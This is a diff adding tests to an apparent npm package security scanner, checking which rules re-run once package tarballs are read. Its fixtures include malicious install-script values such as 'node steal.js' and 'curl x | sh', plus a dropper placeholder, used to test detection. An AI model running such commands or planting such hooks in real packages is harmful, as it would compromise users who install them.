@@ -266,4 +266,48 @@ test('exceptions: applied, expired, unused', () => {
   assert.equal(unused.unusedExceptions.map((e) => e.package), ['lodash'])
 })
 
+test('judging again once tarballs are read: only the rules that read them run again, and the judgement is the full one', () => {
+  const context = contextFor({ rules: { 'minimum-release-age': 'block' } })
+  const young = view({ name: 'young', version: '2.0.0', location: 'node_modules/young' })
+  const confused = view({ location: 'node_modules/left-pad' })
+  const scripted = view({ name: 'runs', location: 'node_modules/runs' })
+  const packages = [young, confused, scripted]
+  const known = new Map<string, PackageFacts>([
+    [young.location, facts([versionFacts('1.0.0', 300), versionFacts('2.0.0', 1)], '2.0.0')],
+    [confused.location, OLD],
+    [scripted.location, SCRIPTED_OLD],
+  ])
+  const rerun: string[] = []
+  const first = judge(packages, known, RULES, context)
+  // The tarballs arrive: one runs a script its registry manifest does not show, one carries a dropper.
+  known.set(confused.location, withTarball({ scripts: { preinstall: 'node steal.js' } }))
+  known.set(scripted.location, withTarball({ name: 'runs', scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, { scripts: { postinstall: 'node x.js' }, hasScriptList: true }, SCRIPTED_OLD))
+  const again = judge(packages, known, RULES, context, { previous: first, rerun: (rule) => (rule.meta.readsTarballs ? (rerun.push(rule.meta.id), true) : false) })
+  assert.equal(again, judge(packages, known, RULES, context))
+  assert.ok(again.findings.some((finding) => finding.code.startsWith('manifest-confusion/')), 'the tarball findings are there')
+  assert.ok(again.findings.some((finding) => finding.code.startsWith('minimum-release-age/')), 'the others stand')
+  assert.equal(rerun.sort(), ['install-scripts', 'manifest-confusion'])
+})
+
+test('a rule not marked readsTarballs finds the same with or without a tarball read', () => {
+  const context = contextFor()
+  const cases: Array<[PackageView, PackageFacts]> = [
+    [view(), OLD],
+    [view({ name: 'runs', location: 'node_modules/runs', scripts: { postinstall: 'node x.js' }, hasInstallScript: true }), SCRIPTED_OLD],
+  ]
+  const disagreeing: Partial<TarballManifest> = {
+    name: 'other', version: '9.9.9', scripts: { preinstall: 'curl x | sh', install: 'node-gyp rebuild' }, dependencies: { evil: '1.0.0' },
+    bin: { sh: 'x.js' }, gypfile: true, hasBindingGyp: true, scriptContent: DROPPER,
+  }
+  for (const rule of RULES.filter((candidate) => !candidate.meta.readsTarballs)) {
+    for (const [pkg, pkgFacts] of cases) {
+      const unread = rule.check(pkg, pkgFacts, context)
+      const read = rule.check(pkg, withTarball(disagreeing, {}, pkgFacts), context)
+      assert.equal(read, unread, `${rule.meta.id} reads the tarball: mark it readsTarballs`)
+      const unreadable = rule.check(pkg, { ...pkgFacts, tarball: { state: 'unreadable', reason: 'EINTEGRITY' } }, context)
+      assert.equal(unreadable, unread, `${rule.meta.id} reads the tarball: mark it readsTarballs`)
+    }
+  }
+})
+
 test.run()
